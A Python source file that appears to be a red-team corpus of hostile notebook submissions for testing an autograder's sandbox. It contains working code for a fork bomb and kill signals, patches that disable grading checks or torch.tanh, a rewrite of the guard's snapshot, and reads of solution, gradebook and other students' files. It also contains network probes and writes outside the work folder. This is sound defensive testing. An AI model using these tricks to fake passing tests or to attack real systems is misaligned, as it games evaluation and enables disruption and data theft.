"""Hostile and broken submissions of one assignment, each made by code from the release and the source.

Every case is "an answer sheet + an attack": the answers are the course's solutions (complete),
the release as handed out (stubs), or functions that return zeros (wrong, but array-shaped so
that a disarmed test runs to its end), and the attack is a cell, a patch or a damaged file.
Each case states what the grader must do as a rule computed from the notebook (``full``,
``zero``, ``full-minus:<exercise>``) and a status (``graded`` or ``failed``), never a number.

Paths the attacks aim at (the repository, the work folder, a canary folder, a local TCP port)
come from :class:`Context`, so that a failure of the sandbox would show as a wrong score or a
file where none may be.
"""

from __future__ import annotations

import ast
import base64
import copy
import json
import os
import re
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from autograder.assignments import Assignment, Exercise, nbgrader_meta

__all__ = ["CASES", "Case", "Context", "complete", "expected_score", "partial", "write_case", "zeros"]


@dataclass(frozen=True)
class Context:
    """What the cases are built from and what the attacks aim at."""

    assignment: Assignment
    released: NotebookNode
    repo: Path
    work: Path
    canaries: Path
    """A host folder the sandbox must not be able to write to (the test checks it stays empty)."""
    port: int
    """A TCP port on the host's loopback that serves the solutions to whoever connects."""

    @property
    def first(self) -> Exercise:
        return self.assignment.exercises[0]

    def exercise(self, solution_id: str) -> Exercise | None:
        return next((e for e in self.assignment.exercises if e.solution_id == solution_id), None)

    def leak_paths(self) -> list[str]:
        """Where a submission might leave data for a later run or another student."""
        return ["leak.json", "/tmp/redteam-leak.json", "~/redteam-leak.json", str(self.canaries / "leak.json")]


@dataclass(frozen=True)
class Case:
    name: str
    what: str
    build: Callable[[Path, Context], None]
    status: str
    rule: str
    """``full``, ``zero`` or ``full-minus:<solution id>`` (``first`` means the first exercise)."""
    bwrap_only: bool = False
    """Unsafe without the sandbox (a fork bomb as root has no process limit)."""


def expected_score(rule: str, ctx: Context) -> float:
    a = ctx.assignment
    if rule == "full":
        return a.max_points
    if rule == "zero":
        return 0.0
    name = rule.removeprefix("full-minus:")
    exercise = ctx.first if name == "first" else ctx.exercise(name)
    return a.max_points - exercise.points


# answer sheets --------------------------------------------------------------------------------


def _solution_cells(nb: NotebookNode) -> list[NotebookNode]:
    return [c for c in nb.cells if c.cell_type == "code" and nbgrader_meta(c).get("solution")]


def _function_names(source: str) -> list[str]:
    return [n.name for n in ast.parse(source).body if isinstance(n, ast.FunctionDef)]


def _zeros(source: str) -> str:
    """Wrong answers with the right names: every function returns zeros shaped like its first argument."""
    return "\n".join(
        f"def {name}(*args, **kwargs):\n    return np.zeros_like(np.asarray(args[0], dtype=float)) if args else 0.0\n"
        for name in _function_names(source)
    )


def complete(ctx: Context) -> NotebookNode:
    nb = copy.deepcopy(ctx.released)
    for cell in _solution_cells(nb):
        cell.source = ctx.assignment.cell(nbgrader_meta(cell)["grade_id"]).source
    return nb


def zeros(ctx: Context) -> NotebookNode:
    nb = copy.deepcopy(ctx.released)
    for cell in _solution_cells(nb):
        cell.source = _zeros(ctx.assignment.cell(nbgrader_meta(cell)["grade_id"]).source)
    return nb


def partial(ctx: Context) -> NotebookNode:
    """Right answers except the first exercise, left as released."""
    nb = complete(ctx)
    _cell(nb, ctx.first.solution_id).source = _cell(ctx.released, ctx.first.solution_id).source
    return nb


def _cell(nb: NotebookNode, grade_id: str) -> NotebookNode:
    return next(c for c in nb.cells if nbgrader_meta(c).get("grade_id") == grade_id)


def _insert_after(nb: NotebookNode, grade_id: str, source: str) -> NotebookNode:
    """A cell the student added after `grade_id`."""
    cell = nbformat.v4.new_code_cell(source)
    nb.cells.insert(nb.cells.index(_cell(nb, grade_id)) + 1, cell)
    return nb


def _append(nb: NotebookNode, grade_id: str, code: str) -> NotebookNode:
    cell = _cell(nb, grade_id)
    cell.source = cell.source + "\n\n" + textwrap.dedent(code)
    return nb


def _setup_id(ctx: Context) -> str:
    return next(nbgrader_meta(c)["grade_id"] for c in ctx.released.cells if nbgrader_meta(c).get("locked"))


def _save(folder: Path, ctx: Context, nb: NotebookNode, name: str | None = None) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / (name or ctx.assignment.path.name))


def _notebook_case(make: Callable[[Context], NotebookNode]) -> Callable[[Path, Context], None]:
    return lambda folder, ctx: _save(folder, ctx, make(ctx))


# attacks --------------------------------------------------------------------------------------

_DISARM = """
import course.checks as _checks_module
for _name in dir(_checks_module):
    if _name.startswith("assert_"):
        setattr(_checks_module, _name, lambda *a, **k: None)
"""


def _infinite_loop(ctx: Context) -> NotebookNode:
    names = _function_names(ctx.assignment.cell(ctx.first.solution_id).source)
    loops = "\n".join(f"def {n}(*args, **kwargs):\n    while True:\n        pass\n" for n in names)
    return _append(complete(ctx), ctx.first.solution_id, loops)


def _calltime(ctx: Context) -> NotebookNode:
    """The first exercise's functions are right on their first call, and disarm the checks while running."""
    source = ctx.assignment.cell(ctx.first.solution_id).source
    names = _function_names(source)
    renamed = source
    for n in names:
        renamed = re.sub(rf"(?<![\w.]){n}\(", f"_true_{n}(", renamed)
    wrappers = "\n".join(
        f"def {n}(*args, **kwargs):\n"
        f"    _disarm()\n"
        f"    _seen['{n}'] = _seen.get('{n}', 0) + 1\n"
        f"    if _seen['{n}'] == 1:\n"
        f"        return _true_{n}(*args, **kwargs)\n"
        f"    return np.zeros_like(np.asarray(args[0], dtype=float))\n"
        for n in names
    )
    code = f"{renamed}\n\n_seen = {{}}\n\ndef _disarm():\n{textwrap.indent(_DISARM, '    ')}\n\n{wrappers}"
    nb = complete(ctx)
    _cell(nb, ctx.first.solution_id).source = code
    return nb


def _torch_patch(ctx: Context) -> NotebookNode:
    """A wrong tanh, and torch.tanh replaced by the same wrong function while tanh's test runs."""
    nb = complete(ctx)
    _cell(nb, "tanh").source = textwrap.dedent(
        """
        import torch as _torch
        _real_tanh = _torch.tanh

        def tanh(z):
            return np.clip(0.4 * np.asarray(z, dtype=float), -1.0, 1.0)

        def tanh_grad(z):
            return np.where(np.abs(0.4 * np.asarray(z, dtype=float)) < 1.0, 0.4, 0.0)

        _torch.tanh = lambda t: _torch.clamp(0.4 * t, -1.0, 1.0)
        """
    )
    following = ctx.assignment.exercises[[e.solution_id for e in ctx.assignment.exercises].index("tanh") + 1]
    cell = _cell(nb, following.solution_id)
    cell.source = "torch.tanh = _real_tanh\n" + cell.source
    return nb


_GUARD_REWRITE = """
import sys as _sys
for _module in list(_sys.modules.values()):
    for _value in list(getattr(_module, "__dict__", {}).values()):
        if type(_value).__name__ != "Gu" + "ard":
            continue
        for _snapshot in getattr(_value, "di" + "cts"):
            if _snapshot.owner is _torch:  # the clean room's memory of torch: make it remember the patched one
                _snapshot.values = list(vars(_torch).values())[: len(_snapshot.values)]
"""


def _guard_rewrite(ctx: Context) -> NotebookNode:
    """The torch.tanh patch, and the clean room's snapshot of torch rewritten to hold it (found through modules)."""
    nb = _torch_patch(ctx)
    _cell(nb, "tanh").source += _GUARD_REWRITE
    return nb


def _if_found(ctx: Context, probe: str, found_answer: Callable[[str], str]) -> NotebookNode:
    """Answers that are right only if `probe` (run in the first solution cell) finds something."""
    nb = copy.deepcopy(ctx.released)
    for i, cell in enumerate(_solution_cells(nb)):
        gid = nbgrader_meta(cell)["grade_id"]
        body = f"if _FOUND:\n{textwrap.indent(found_answer(gid), '    ')}\nelse:\n"
        body += textwrap.indent(_zeros(ctx.assignment.cell(gid).source), "    ")
        cell.source = (textwrap.dedent(probe) + "\n" if i == 0 else "") + body
    return nb


def _read_leaks(ctx: Context) -> NotebookNode:
    probe = f"""
    import os
    _FOUND = [p for p in {ctx.leak_paths()!r} if os.path.exists(os.path.expanduser(p))]
    print("leaks found:", _FOUND)
    """
    return _if_found(ctx, probe, lambda gid: ctx.assignment.cell(gid).source)


def _steal(ctx: Context, paths: list[str]) -> NotebookNode:
    """Look for notebooks with answers at `paths`; if one can be read, run its solution cells."""
    probe = f"""
    import json
    _FOUND = {{}}
    for _path in {paths!r}:
        try:
            _nb = json.load(open(_path))
        except (OSError, ValueError):
            continue
        _FOUND = {{c.get("id"): "".join(c["source"]) for c in _nb["cells"] if c["cell_type"] == "code"}}
        print("read", _path)
        break
    for _path in {[str(ctx.work / "gradebook.db")]!r}:
        try:
            open(_path, "rb").read(64)
            print("read the gradebook", _path)
        except OSError as err:
            print("gradebook:", err)
    """
    return _if_found(ctx, probe, lambda gid: f"exec(_FOUND[{gid!r}])")


def _network(ctx: Context) -> NotebookNode:
    probe = f"""
    import json, socket
    _FOUND = {{}}
    try:
        with socket.create_connection(("127.0.0.1", {ctx.port}), timeout=2) as _s:
            _FOUND = json.loads(_s.makefile().read())
    except OSError as err:
        print("no grader port:", err)
    try:
        socket.create_connection(("1.1.1.1", 53), timeout=1).close()
        print("internet reachable")
    except OSError as err:
        print("no internet:", err)
    """
    return _if_found(ctx, probe, lambda gid: f"exec(_FOUND[{gid!r}])")


def _write_outside(ctx: Context) -> NotebookNode:
    targets = [
        str(ctx.repo / "course" / "_redteam_canary.py"),
        str(ctx.work / "results" / "_redteam_canary.json"),
        str(ctx.canaries / "canary.txt"),
        "/tmp/_redteam_canary.txt",
    ]
    code = f"""
    for _path in {targets!r}:
        try:
            with open(_path, "w") as _f:
                _f.write("written from a submission")
            print("WROTE", _path)
        except OSError as err:
            print("refused:", _path, err)
    """
    return _insert_after(complete(ctx), _setup_id(ctx), textwrap.dedent(code))


def _dump_expected(ctx: Context) -> NotebookNode:
    code = f"""
    import os
    import course.checks as _checks_module

    def _dump(*args, **kwargs):
        for _path in {ctx.leak_paths()!r}:
            try:
                with open(os.path.expanduser(_path), "a") as _f:
                    _f.write(repr(args)[:2000] + "\\n")
            except OSError:
                pass

    for _name in dir(_checks_module):
        if _name.startswith("assert_"):
            setattr(_checks_module, _name, _dump)
    """
    return _append(zeros(ctx), ctx.first.solution_id, code)


def _leak_hidden(ctx: Context) -> NotebookNode:
    """Right answers that print the source of every cell that calls them (hidden tests included)."""
    names = _function_names(ctx.assignment.cell(ctx.first.solution_id).source)
    wrappers = "\n".join(
        f"_orig_{n} = {n}\n\ndef {n}(*args, **kwargs):\n    _show_callers()\n    return _orig_{n}(*args, **kwargs)\n"
        for n in names
    )
    code = textwrap.dedent(
        """
        import inspect as _inspect, linecache as _linecache

        def _show_callers():
            for _frame in _inspect.stack(0)[1:3]:  # no context lines: only the callers' file names
                print("".join(_linecache.getlines(_frame.filename)))
        """
    )
    return _append(complete(ctx), ctx.first.solution_id, code + "\n" + wrappers)


def _text_of(nb: NotebookNode) -> str:
    return nbformat.writes(nb)


def _corrupt(folder: Path, ctx: Context) -> None:
    text = _text_of(complete(ctx))
    folder.mkdir(parents=True)
    (folder / ctx.assignment.path.name).write_text(text[: len(text) * 3 // 5])


def _wrong_nbformat(folder: Path, ctx: Context) -> None:
    folder.mkdir(parents=True)
    bogus = {"nbformat": 99, "nbformat_minor": 0, "metadata": {}, "cells": [{"cell_type": "mystery", "source": "x"}]}
    (folder / ctx.assignment.path.name).write_text(json.dumps(bogus))


def _renamed(folder: Path, ctx: Context) -> None:
    _save(folder, ctx, complete(ctx), f"{ctx.assignment.notebook}-Copy1.ipynb")


def _missing(folder: Path, ctx: Context) -> None:
    folder.mkdir(parents=True)
    (folder / "README.txt").write_text("I could not finish, sorry.\n")


def _non_utf8(folder: Path, ctx: Context) -> None:
    nb = complete(ctx)
    marker = "NONUTF8MARKER"
    next(c for c in nb.cells if c.cell_type == "markdown").source += marker
    data = _text_of(nb).encode().replace(marker.encode(), b"caf\xe9 \xff\xfe")
    folder.mkdir(parents=True)
    (folder / ctx.assignment.path.name).write_bytes(data)


def _big_outputs(folder: Path, ctx: Context) -> None:
    nb = complete(ctx)
    png = base64.b64encode(os.urandom(38 * 2**20)).decode()
    cell = next(c for c in nb.cells if c.cell_type == "code" and not nbgrader_meta(c))
    cell.outputs = [nbformat.v4.new_output("display_data", data={"image/png": png, "text/plain": "<Figure>"})]
    _save(folder, ctx, nb)
    assert (folder / ctx.assignment.path.name).stat().st_size > 50 * 2**20


def _big_source(folder: Path, ctx: Context) -> None:
    nb = complete(ctx)
    _append(nb, ctx.first.solution_id, "# " + "padding " * (51 * 2**20 // 8))
    _save(folder, ctx, nb)


def _duplicate_tests(ctx: Context) -> NotebookNode:
    nb = complete(ctx)
    for cell in [c for c in nb.cells if nbgrader_meta(c).get("grade")]:
        twin = copy.deepcopy(cell)
        twin.id = f"{cell.id}-copy"
        nb.cells.insert(nb.cells.index(cell) + 1, twin)
    return nb


def _delete_tests(ctx: Context) -> NotebookNode:
    nb = complete(ctx)
    nb.cells = [c for c in nb.cells if not nbgrader_meta(c).get("grade")]
    return nb


def _edit_tests(ctx: Context) -> NotebookNode:
    nb = copy.deepcopy(ctx.released)
    for cell in nb.cells:
        if nbgrader_meta(cell).get("grade"):
            cell.source = "pass"
            cell.metadata["nbgrader"]["locked"] = False
    return nb


_FORK_BOMB = """
import os, time
def _bomb():
    n = 0
    while n < 5000:
        try:
            pid = os.fork()
        except OSError:
            return n
        if pid == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.05)
        n += 1
    return n
print("forked", _bomb())
"""

_REBIND = """
import types
_noop = lambda *a, **k: None
checks = types.SimpleNamespace(assert_close=_noop, assert_equal=_noop, assert_shape=_noop, assert_true=_noop)
"""

_THREAD = """
import threading, time
import course.checks as _checks_module
def _keep_patching():
    while True:
        for _name in ("assert_close", "assert_equal", "assert_shape", "assert_true"):
            setattr(_checks_module, _name, lambda *a, **k: None)
        time.sleep(0.001)
threading.Thread(target=_keep_patching, daemon=True).start()
"""

_TRANSFORMER = "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"


_LIBRARY_SIGMOID = """
import torch.nn.functional as _nnf
def sigmoid(z):
    return _nnf.sigmoid(torch.as_tensor(np.asarray(z, dtype=float))).numpy()
"""


_UNWATCH = """
import course.byhand
by_hand = course.byhand.by_hand = lambda fn, *args, forbidden=(), **kwargs: fn(*args, **kwargs)
"""


def _added(code: str) -> Callable[[Path, Context], None]:
    """Right answers, with `code` at the end of the first answer cell (where the grader runs it)."""
    return _appended(complete, textwrap.dedent(code))


def _added_cell(code: str) -> Callable[[Path, Context], None]:
    """Right answers, and a cell the student added after the setup cell (outside the graded chain)."""
    return _notebook_case(lambda ctx: _insert_after(complete(ctx), _setup_id(ctx), textwrap.dedent(code)))


def _appended(answers: Callable[[Context], NotebookNode], code: str) -> Callable[[Path, Context], None]:
    """`answers`, with `code` at the end of the first solution cell."""
    return _notebook_case(lambda ctx: _append(answers(ctx), ctx.first.solution_id, code))


def _allclose(ctx: Context) -> NotebookNode:
    nb = _append(complete(ctx), ctx.first.solution_id, _zeros(ctx.assignment.cell(ctx.first.solution_id).source))
    patch = "np.allclose = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None"
    return _append(nb, ctx.assignment.exercises[1].solution_id, patch)


def _read_sources(ctx: Context) -> NotebookNode:
    a = ctx.assignment
    return _steal(ctx, [str(a.path), str(ctx.work / "release" / a.name / a.path.name)])


def _read_others(ctx: Context) -> NotebookNode:
    a = ctx.assignment
    steps = ("submitted", "autograded")
    return _steal(ctx, [str(ctx.work / step / "honest_complete" / a.name / a.path.name) for step in steps])


def _cases() -> list[Case]:
    first = "full-minus:first"
    blank = _notebook_case(lambda ctx: copy.deepcopy(ctx.released))
    return [
        Case("honest_complete", "every answer right", _notebook_case(complete), "graded", "full"),
        Case("honest_partial", "the first exercise left as released", _notebook_case(partial), "graded", first),
        Case("blank", "the release, untouched", blank, "graded", "zero"),
        Case("infinite_loop", "the first exercise's functions never return", _notebook_case(_infinite_loop),
             "graded", first),
        Case("loop_ignores_interrupt", "ignores SIGINT, then loops forever",
             _added("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
             "failed", "zero"),
        Case("library_shortcut", "the first exercise handed to the library it asks to write by hand",
             _appended(complete, _LIBRARY_SIGMOID), "graded", "full-minus:first"),
        Case("library_shortcut_unwatched", "the library shortcut, with by_hand rebound to watch nothing",
             _appended(complete, _LIBRARY_SIGMOID + _UNWATCH), "graded", "full-minus:first"),
        Case("sleeps_forever", "right answers, then a cell that sleeps", _added("import time\ntime.sleep(10**6)"),
             "failed", "zero"),
        Case("sleeps_in_test", "right answers, but sigmoid sleeps when a test calls it",
             _added("def sigmoid(z):\n    import time\n    time.sleep(10**6)"), "graded", "zero"),
        Case("memory_bomb", "allocates until the memory limit stops it",
             _added("hog = [bytearray(2**27) for _ in range(10**6)]"), "graded", "full"),
        Case("fork_bomb", "forks until the process limit stops it", _added(_FORK_BOMB), "failed", "zero",
             bwrap_only=True),
        Case("os_exit", "os._exit in a cell", _added("import os\nos._exit(3)"), "failed", "zero"),
        Case("segfault", "dereferences NULL", _added("import ctypes\nctypes.string_at(0)"), "failed", "zero"),
        Case("kill_parent", "kills the process that started its kernel",
             _added("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"), "failed", "zero"),
        Case("added_cell_exits", "right answers, and an added cell that ends its kernel (the grader never runs it)",
             _added_cell("import os\nos._exit(3)"), "graded", "full"),
        Case("huge_output", "prints 200 MB", _added("for _ in range(200):\n    print('x' * 2**20)"), "graded", "full"),
        Case("corrupt_json", "the file is cut off", _corrupt, "failed", "zero"),
        Case("wrong_nbformat", "JSON, but nbformat 99", _wrong_nbformat, "failed", "zero"),
        Case("renamed_notebook", "right answers in a renamed file", _renamed, "graded", "full"),
        Case("missing_notebook", "no notebook at all", _missing, "failed", "zero"),
        Case("non_utf8", "right answers, bytes that are not UTF-8", _non_utf8, "graded", "full"),
        Case("big_notebook_outputs", "right answers, 50 MB of outputs", _big_outputs, "graded", "full"),
        Case("big_notebook_source", "50 MB of text in a solution cell", _big_source, "failed", "zero"),
        Case("duplicated_tests", "right answers, every test cell duplicated", _notebook_case(_duplicate_tests),
             "graded", "full"),
        Case("deleted_tests", "right answers, every test cell deleted", _notebook_case(_delete_tests),
             "graded", "full"),
        Case("edited_tests", "stubs, every test cell replaced by pass", _notebook_case(_edit_tests),
             "graded", "zero"),
        Case("patch_np_allclose", "first answer wrong, np.allclose always True", _notebook_case(_allclose),
             "graded", first),
        Case("patch_checks", "wrong answers, course.checks functions replaced", _appended(zeros, _DISARM),
             "graded", "zero"),
        Case("rebind_checks", "wrong answers, the name checks rebound", _appended(zeros, _REBIND), "graded", "zero"),
        Case("input_transformer", "wrong answers, later cells blanked by an input transformer",
             _appended(zeros, _TRANSFORMER), "graded", "zero"),
        Case("input_transformer_right", "right answers, later cells blanked by an input transformer",
             _appended(complete, _TRANSFORMER), "graded", "full"),
        Case("torch_patch", "wrong tanh, torch.tanh replaced to match it", _notebook_case(_torch_patch),
             "graded", "full-minus:tanh"),
        Case("guard_rewrite", "wrong tanh, torch.tanh replaced, the clean room's snapshot of torch rewritten",
             _notebook_case(_guard_rewrite), "graded", "full-minus:tanh"),
        Case("calltime_patch", "first exercise right once, then disarms the checks while they run",
             _notebook_case(_calltime), "graded", first),
        Case("thread_patch", "wrong answers, a thread that keeps replacing the checks", _appended(zeros, _THREAD),
             "graded", "zero"),
        Case("dump_expected", "wrong answers; the checks write what they see to disk", _notebook_case(_dump_expected),
             "graded", "zero"),
        Case("read_leaks", "right answers only if another run left data behind", _notebook_case(_read_leaks),
             "graded", "zero"),
        Case("read_sources", "copies the solutions from the source notebook or the gradebook",
             _notebook_case(_read_sources), "graded", "zero"),
        Case("read_other_students", "copies another student's submission", _notebook_case(_read_others),
             "graded", "zero"),
        Case("network", "fetches the answers over the network", _notebook_case(_network), "graded", "zero"),
        Case("write_outside", "right answers; writes outside its folder", _notebook_case(_write_outside),
             "graded", "full"),
        Case("leak_hidden_tests", "right answers that print the cells calling them (the hidden tests)",
             _notebook_case(_leak_hidden), "graded", "full-minus:first"),  # inspect.stack is refused in the clean room
    ]  # fmt: skip


CASES = _cases()


def write_case(case: Case, submissions: Path, ctx: Context) -> Path:
    """Write `case` as ``submissions/<case name>/<assignment>/``."""
    folder = submissions / case.name / ctx.assignment.name
    case.build(folder, ctx)
    return folder


from redteam.corpus_introspection import CASES as _INTROSPECTION  # noqa: E402 - built from the helpers above

CASES += _INTROSPECTION

from redteam.corpus_submission import CASES as _SUBMISSION  # noqa: E402 - built from the helpers above

CASES += _SUBMISSION
